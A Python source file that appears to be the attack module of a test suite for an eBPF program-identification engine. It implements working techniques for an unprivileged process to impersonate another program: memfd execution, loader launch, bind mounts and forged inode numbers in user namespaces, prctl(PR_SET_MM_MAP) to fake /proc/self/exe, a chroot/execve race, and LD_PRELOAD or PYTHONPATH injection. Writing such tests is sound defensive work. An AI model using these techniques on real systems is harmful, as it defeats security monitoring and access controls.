"""What an ordinary user does to pass for another program, for intruder.attack: one attack, then one verb of sender.py.

Run as ``COPY -I attacks.py ATTACK GOOD OWN VERB ADDRESS PORT [options]``: GOOD is the program whose rights are wanted,
OWN the attacker's own file. The only line is the verb's result; attacks that wait first print ``{"event": "ready"}``
and go on at a line of standard input. An attack that fails before its verb ends with a traceback, never with a line.
"""

from __future__ import annotations

import ctypes
import mmap
import os
import shutil
import signal
import struct
import sys
import time
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))  # -I leaves it out
import sender

GOOD, OWN, WORDS = sys.argv[2], sys.argv[3], sys.argv[4:]
CLONE_VM, CLONE_FS, CLONE_VFORK, CLONE_NEWNS, CLONE_NEWUSER = 0x100, 0x200, 0x4000, 0x20000, 0x10000000
MS_BIND, MS_REC, MS_PRIVATE = 0x1000, 0x4000, 0x40000
MREMAP_MAYMOVE, MREMAP_FIXED = 1, 2
PR_SET_MM, PR_SET_MM_MAP = 35, 14
PROT_READ, PROT_WRITE, PROT_EXEC = 1, 2, 4
MAP_PRIVATE, MAP_ANONYMOUS = 2, 0x20
LIBC = ctypes.PyDLL(None, use_errno=True)  # keeps the GIL: a clone() that shares memory must not wait for it
LIBC.mmap.restype = LIBC.mremap.restype = LIBC.sbrk.restype = ctypes.c_void_p


def checked(result: int | None, what: str) -> int:
    """Return the result of a C function; -1 raises."""
    if result in (-1, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), what)
    return result or 0


def send() -> None:
    """Do the verb in this process."""
    sys.argv[1:] = WORDS
    sender.main()


def wait() -> None:
    """Say "ready" and go on when told to."""
    sender.tell(True, {"event": "ready"})
    sys.stdin.readline()


def become(program: str | int, name: str = "", environment: dict[str, str] | None = None) -> None:
    """Execute a copy of the interpreter, which does the verb."""
    words = [name or str(program), "-I", sender.__file__, *WORDS]
    os.execve(program, words, dict(os.environ) if environment is None else environment)


def new_namespaces(flags: int) -> None:
    """Become root of a user namespace, with more new namespaces."""
    user, group = os.getuid(), os.getgid()
    checked(LIBC.unshare(CLONE_NEWUSER | flags), "unshare")
    Path("/proc/self/setgroups").write_text("deny")
    Path("/proc/self/uid_map").write_text(f"0 {user} 1")
    Path("/proc/self/gid_map").write_text(f"0 {group} 1")
    if flags & CLONE_NEWNS:
        checked(LIBC.mount(None, b"/", None, MS_REC | MS_PRIVATE, None), "private mounts")


# -- executing one's own file ---------------------------------------------------------------------------------------


def by_memory_file() -> None:
    """Execute a copy of the good file that is in no folder."""
    file = os.memfd_create("good")
    with open(file, "wb", closefd=False) as copy:
        copy.write(Path(GOOD).read_bytes())
    become(file)


def by_loader() -> None:
    """Let the dynamic loader run the good file, which then is not what was executed."""
    loader = loader_path()
    os.execv(loader, [loader, GOOD, "-I", sender.__file__, *WORDS])


def mounted_over() -> None:
    """Put one's own file where the good one is, in a mount namespace of one's own."""
    new_namespaces(CLONE_NEWNS)
    checked(LIBC.mount(OWN.encode(), GOOD.encode(), None, MS_BIND, None), "bind mount")
    become(GOOD)


def same_number() -> None:
    """Make a copy of the good file with its inode number, on a file system of one's own."""
    wanted = Path(GOOD).stat().st_ino
    new_namespaces(CLONE_NEWNS)
    checked(LIBC.mount(b"own", OWN.encode(), b"tmpfs", 0, None), "mount")
    for number in range(10_000):
        copy = Path(OWN, str(number))
        copy.touch(mode=0o755)
        if copy.stat().st_ino == wanted:
            break
    else:
        raise RuntimeError(f"no file got the inode number {wanted}")
    shutil.copyfile(GOOD, copy)
    become(str(copy))


# -- changing one's own file ----------------------------------------------------------------------------------------


def changed(data: bytes) -> bytes:
    """Return a program that does the same and is another one: the last byte, of a section's header, is not loaded."""
    return data[:-1] + bytes([data[-1] ^ 0xFF])


def recreated() -> None:
    """Delete one's own file and make another one there."""
    data = Path(OWN).read_bytes()
    Path(OWN).unlink()
    Path(OWN).write_bytes(changed(data))
    Path(OWN).chmod(0o755)
    become(OWN)


def rewritten() -> None:
    """Change one's own file in place."""
    data = Path(OWN).read_bytes()
    with Path(OWN).open("r+b") as file:
        file.write(changed(data))
    become(OWN)


def renamed() -> None:
    """Move another file over one's own."""
    other = Path(OWN + ".new")
    other.write_bytes(changed(Path(OWN).read_bytes()))
    other.chmod(0o755)
    other.rename(OWN)
    become(OWN)


def mapped(before: Callable[[], None] = lambda: None) -> None:
    """Change one's own file through a mapping of it that was written to once already; ``before``: the change."""
    with Path(OWN).open("r+b") as file, mmap.mmap(file.fileno(), 0) as memory:
        memory[-1] = memory[-1]
        before()
        memory[-1] ^= 0xFF
    become(OWN)


# -- lying about what was executed ----------------------------------------------------------------------------------


def loader_path() -> str:
    """Return where the dynamic loader of this process is."""
    lines = Path("/proc/self/maps").read_text().splitlines()
    return next(line.split()[-1] for line in lines if "/ld-" in line)


def mappings(path: str) -> list[tuple[int, int, int]]:
    """Return start, length and protection of everything that is mapped from a file."""
    found = []
    for line in Path("/proc/self/maps").read_text().splitlines():
        words = line.split()
        if words[-1] == path:
            start, end = (int(word, 16) for word in words[0].split("-"))
            letters = zip("rwx", (PROT_READ, PROT_WRITE, PROT_EXEC), strict=True)
            found.append((start, end - start, sum(bit for letter, bit in letters if letter in words[1])))
    return found


def leave(path: str) -> None:
    """Replace all that is mapped from a file by copies in memory: only then the exe link may be changed."""
    size = ctypes.c_size_t
    for start, length, protection in mappings(path):
        anonymous = MAP_PRIVATE | MAP_ANONYMOUS
        copy = checked(LIBC.mmap(None, size(length), PROT_READ | PROT_WRITE, anonymous, -1, size(0)), "mmap")
        ctypes.memmove(copy, start, length)
        checked(LIBC.mprotect(ctypes.c_void_p(copy), size(length), protection), "mprotect")
        how = MREMAP_MAYMOVE | MREMAP_FIXED
        moved = LIBC.mremap(ctypes.c_void_p(copy), size(length), size(length), how, ctypes.c_void_p(start))
        checked(moved, "mremap")
    assert not mappings(path)


def layout(file: int) -> bytes:
    """Return a struct prctl_mm_map: this process as it is, but for the executed file."""
    words = Path("/proc/self/stat").read_text().rpartition(")")[2].split()
    code, end, stack = (int(word) for word in words[23:26])
    data = [int(word) for word in words[42:45]]  # start, end, start of the heap
    texts = [int(word) for word in words[45:49]]
    return struct.pack("=12QII", code, end, *data, checked(LIBC.sbrk(0), "sbrk"), stack, *texts, 0, 0, file)


def in_loader() -> bool:
    """Become the dynamic loader running this same script, whose own file can be left; false: that is done."""
    loader = loader_path()
    if os.readlink("/proc/self/exe") == loader:  # noqa: PTH115
        return False
    os.execv(loader, [loader, os.readlink("/proc/self/exe"), "-I", *sys.argv])  # noqa: PTH115


def set_link() -> int:
    """Let the exe link show the good file; the error number."""
    text = layout(os.open(GOOD, os.O_RDONLY))
    buffer = ctypes.create_string_buffer(text, len(text))
    address, size = ctypes.c_ulong(ctypes.addressof(buffer)), ctypes.c_ulong(len(text))
    return ctypes.get_errno() if LIBC.prctl(PR_SET_MM, ctypes.c_ulong(PR_SET_MM_MAP), address, size, 0) else 0


def linked() -> None:
    """Let the exe link show the good file, by prctl(PR_SET_MM_MAP) in a user namespace."""
    if not in_loader():
        leave(loader_path())
        new_namespaces(0)
        checked(-1 if set_link() else 0, "PR_SET_MM_MAP")
    assert os.readlink("/proc/self/exe") == GOOD  # noqa: PTH115


def linked_by_a_child() -> None:
    """The same, by a child that shares the memory and is alone in the user namespace: this process never enters it."""
    if not in_loader():
        leave(loader_path())
        keep: list[object] = []
        pid = cloned(CLONE_VM | CLONE_VFORK | CLONE_NEWUSER, set_link, keep)
        assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0
    assert os.readlink("/proc/self/exe") == GOOD  # noqa: PTH115


def cloned(flags: int, child: Callable[[], int], stacks: list[object]) -> int:
    """Start a child that shares what the flags say, and return its process id; it ends with the number returned."""
    stack = ctypes.create_string_buffer(1 << 18)
    begin = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(lambda _: child())
    stacks += (stack, begin)
    top = ctypes.c_void_p((ctypes.addressof(stack) + len(stack)) & ~15)
    return checked(LIBC.clone(begin, top, flags | signal.SIGCHLD, None), "clone")


def changing_root(seconds: float = 4) -> None:
    """Execute the good path again and again, while a process that shares the root folder moves it to and fro.

    OWN is a folder that has another file at the good path: the kernel may open that, and see the root moved back after.
    """
    new_namespaces(0)
    root, nothing = os.open("/", os.O_RDONLY), os.open(os.devnull, os.O_RDWR)  # now: later the root is on the move
    jail, good, dot = OWN.encode(), GOOD.encode(), b"."
    words = (ctypes.c_char_p * 2)(good, None)
    keep: list[object] = []

    def execute() -> int:
        for _ in range(20_000):
            LIBC.execve(good, words, None)
        return 1

    def again_and_again() -> int:
        for descriptor in range(3):
            os.dup2(nothing, descriptor)
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            os.waitpid(cloned(CLONE_FS, execute, keep), 0)
            keep.clear()
        return 0

    own: list[object] = []
    runner = cloned(CLONE_FS, again_and_again, own)
    while not os.waitpid(runner, os.WNOHANG)[0]:
        for _ in range(200):
            LIBC.chroot(jail)
            LIBC.fchdir(root)
            LIBC.chroot(dot)
    sender.tell(True, {"event": "ready"})


def engine(flag: str, variable: str, value: str) -> None:
    """Run the Engine's module as the Engine runs it, with a variable that brings code of one's own along."""
    program, instance = GOOD.split(":")
    words = [program, *([flag] if flag else []), "-m", "kpf_ebpf.engine", instance]
    text = "\0".join((sender.__file__, *WORDS))
    os.execve(program, words, {**os.environ, variable: value, "WORDS": text.replace("\0", " ")})


ATTACKS: dict[str, tuple[Callable[[], None], ...]] = {
    "execute": (lambda: become(OWN),),
    "other-name": (lambda: become(OWN, GOOD),),
    "own-link": (lambda: become("/proc/self/exe", GOOD),),
    "memory-file": (by_memory_file,),
    "descriptor": (lambda: become(os.open(OWN, os.O_PATH), GOOD),),
    "loader": (by_loader,),
    "mounted-over": (mounted_over,),
    "same-number": (same_number,),
    "recreated": (recreated,),
    "rewritten": (rewritten,),
    "renamed": (renamed,),
    "mapped": (lambda: mapped(wait),),
    "mapped-at-once": (mapped,),
    "linked": (linked, send),
    "changing-root": (changing_root,),
    "wait": (wait, send),
    "own-namespace-wait": (lambda: new_namespaces(0), wait, send),
    "linked-wait": (linked, wait, send),
    "linked-by-a-child-wait": (linked_by_a_child, wait, send),
    "engine-pythonpath": (lambda: engine("", "PYTHONPATH", OWN),),
    "engine-preload": (lambda: engine("-I", "LD_PRELOAD", OWN),),
}


if __name__ == "__main__":
    for step in ATTACKS[sys.argv[1]]:
        step()
